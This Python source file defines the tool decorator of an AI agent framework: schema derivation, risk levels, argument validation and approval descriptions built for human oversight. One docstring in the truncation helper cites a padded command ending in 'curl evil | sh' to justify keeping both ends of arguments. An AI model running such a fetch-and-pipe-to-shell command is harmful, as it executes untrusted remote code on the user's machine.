"""The @tool decorator: a typed, documented function becomes a Tool with a derived JSON schema."""

from __future__ import annotations

import copy
import functools
import inspect
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from agent_core.tools.arguments import arguments_model, chat_schema, pydantic_validator
from agent_core.tools.context import CONTEXT_PARAMETER
from agent_core.tools.docstrings import parse_docstring
from agent_core.tools.validate import schema_validator
from storage.vocabulary import Risk

RISKS: tuple[str, ...] = tuple(Risk)
WORKSPACE_PARAMETER = "workspace"  # injected by run_tool, never part of the schema
INJECTED = (WORKSPACE_PARAMETER, CONTEXT_PARAMETER)

_NAME = re.compile(r"^[A-Za-z0-9_-]{1,64}$")  # what OpenAI accepts as a function name


@dataclass(frozen=True)
class ArgumentKinds:
    """Which arguments name files or hold a shell command line: policy rules see their targets."""

    paths: tuple[str, ...] = ()
    commands: tuple[str, ...] = ()
    guessed: bool = False  # not declared by the tool: read from argument names, as text only


@dataclass(frozen=True)
class Tool:
    name: str
    description: str
    parameters: dict  # JSON schema of an object
    risk: Risk
    fn: Callable[..., str]
    polling: bool = False  # True for tools that wait on something; drift monitors expect repeats
    describer: Callable[[dict], str] | None = field(default=None, compare=False, repr=False)
    argument_kinds: ArgumentKinds = ArgumentKinds()
    source: str = "built-in"  # "built-in", "module <name>" or "mcp <server>"
    risk_from: str = "declared"  # where the risk came from: declared, config, annotations, default
    # What the tool's source says of it, labelled as its claim ("MCP server x (untrusted) says:
    # ..."): an approver sees it beside the call, never as fact. Empty for our own tools.
    claim: str = ""
    # Checks arguments: the tool's pydantic model (decorated tools) or, for a schema the tool did
    # not derive (an MCP server's, a hand-built one), jsonschema.
    validator: Callable[[dict], dict] | None = field(default=None, compare=False, repr=False)

    @property
    def users_own(self) -> bool:
        """A tool of the user's own module (the policy's `tools = [...]`, an entry point)."""
        return self.source.startswith("module ")

    def __hash__(self) -> int:  # the schema dict is unhashable; a tool is known by name and risk
        return hash((self.name, self.risk))

    def spec(self) -> dict:
        """The OpenAI Chat Completions tool spec."""
        return {
            "type": "function",
            "function": {
                "name": self.name,
                "description": self.description,
                "parameters": copy.deepcopy(self.parameters),
            },
        }

    def validate(self, arguments: dict) -> dict:
        """The arguments checked against the schema, with defaults filled; or ToolArgumentError."""
        if self.validator is not None:
            return self.validator(arguments)
        return schema_validator(self.parameters, self.name)(arguments)

    def describe(self, arguments: dict) -> str:
        """What this call would do, in plain words for the person approving it."""
        text = None
        if self.describer is not None:
            try:
                text = self.describer(arguments)
            except Exception:  # a describer must never block an approval: fall back to plain words
                text = None
        if not (isinstance(text, str) and text.strip()):
            text = plain_description(self.name, arguments)
        return f"{text} — {self.claim}" if self.claim else text

    @property
    def wants_workspace(self) -> bool:
        """Whether the function takes the run's Workspace (injected by run_tool)."""
        return WORKSPACE_PARAMETER in _parameter_names(self.fn)

    @property
    def wants_context(self) -> bool:
        """Whether the function takes the call's ToolContext (injected by run_tool)."""
        return CONTEXT_PARAMETER in _parameter_names(self.fn)


def _parameter_names(fn: Callable[..., str]) -> frozenset[str]:
    """The names `fn` takes: read once per function (every call of a tool asks twice)."""
    try:
        return _signature_names(fn)
    except TypeError:  # an unhashable callable: read each time
        return frozenset(inspect.signature(fn).parameters)


@functools.lru_cache(maxsize=1024)
def _signature_names(fn: Callable[..., str]) -> frozenset[str]:
    return frozenset(inspect.signature(fn).parameters)


def tool(
    risk: Risk | str | Callable[..., str] = Risk.LOW,
    *,
    name: str | None = None,
    polling: bool = False,
    describe: Callable[[dict], str] | None = None,
    paths: tuple[str, ...] = (),
    commands: tuple[str, ...] = (),
) -> Any:
    """Make a Tool of a function: `@tool(risk="high")`, or bare `@tool` for a low-risk tool.

    `paths` names the parameters that are workspace paths (str or list[str]) and `commands` those
    that are shell command lines; policy rules then match what they really touch and run.
    Raises TypeError at decoration time when the function lacks a docstring, a type hint or an
    Args description for a parameter, or uses a type the schema cannot express.
    """
    if callable(risk):  # used bare: @tool
        return make_tool(risk, risk=Risk.LOW)

    def decorate(fn: Callable[..., str]) -> Tool:
        return make_tool(
            fn,
            risk=risk,
            name=name,
            polling=polling,
            describe=describe,
            kinds=ArgumentKinds(tuple(paths), tuple(commands)),
        )

    return decorate


def make_tool(
    fn: Callable[..., str],
    *,
    risk: Risk | str = Risk.LOW,
    name: str | None = None,
    polling: bool = False,
    describe: Callable[[dict], str] | None = None,
    kinds: ArgumentKinds = ArgumentKinds(),
) -> Tool:
    """Derive a Tool from a function's type hints and docstring: one pydantic model gives the
    schema and checks the arguments."""
    name = name or fn.__name__
    if not _NAME.match(name):
        raise TypeError(f"tool name {name!r} must be 1-64 letters, digits, '_' or '-'")
    if risk not in RISKS:
        raise TypeError(f"tool {name!r}: risk must be one of {', '.join(RISKS)}, not {risk!r}")
    doc = inspect.getdoc(fn)
    if not doc or not doc.strip():
        raise TypeError(f"tool {name!r} has no docstring; the model needs it to know what it does")
    parsed = parse_docstring(doc)
    if not parsed.summary:
        raise TypeError(f"tool {name!r}: the docstring needs a summary before its Args section")
    model = arguments_model(fn, name, parsed.args, INJECTED)
    parameters = chat_schema(model)
    _check_kinds(name, parameters, kinds)
    validator = pydantic_validator(model, parameters)
    return Tool(
        name=name,
        description=parsed.summary,
        parameters=parameters,
        risk=Risk(risk),  # checked against RISKS above
        fn=fn,
        polling=polling,
        describer=describe,
        argument_kinds=kinds,
        validator=validator,
    )


def _check_kinds(name: str, parameters: dict, kinds: ArgumentKinds) -> None:
    """Path parameters are strings or lists of strings; command parameters are strings."""
    properties = parameters["properties"]
    for arg in (*kinds.paths, *kinds.commands):
        if arg not in properties:
            raise TypeError(
                f"tool {name!r}: {arg!r} is marked as a path or command, not a parameter"
            )
        prop = properties[arg]
        is_list = prop.get("type") == "array" and prop["items"].get("type") == "string"
        if prop.get("type") != "string" and not (is_list and arg in kinds.paths):
            raise TypeError(f"tool {name!r}: marked parameter {arg!r} must be a str or list[str]")


def plain_description(name: str, arguments: Any) -> str:
    """The fallback description: the tool's name and its arguments, shortened."""
    if not isinstance(arguments, dict) or not arguments:
        return f"run {name}"
    parts = [f"{key}={_shortened(repr(value))}" for key, value in arguments.items()]
    return f"run {name} with " + ", ".join(parts)


def _shortened(text: str, limit: int = 80) -> str:
    """An argument cut to `limit` characters keeping both ends: a command padded so that what
    it does comes last (`echo ... ; curl evil | sh`) keeps that end in the summary every
    preview and notification shows."""
    if len(text) <= limit:
        return text
    head = (limit - 3) // 2
    return text[:head] + "..." + text[len(text) - (limit - 3 - head) :]
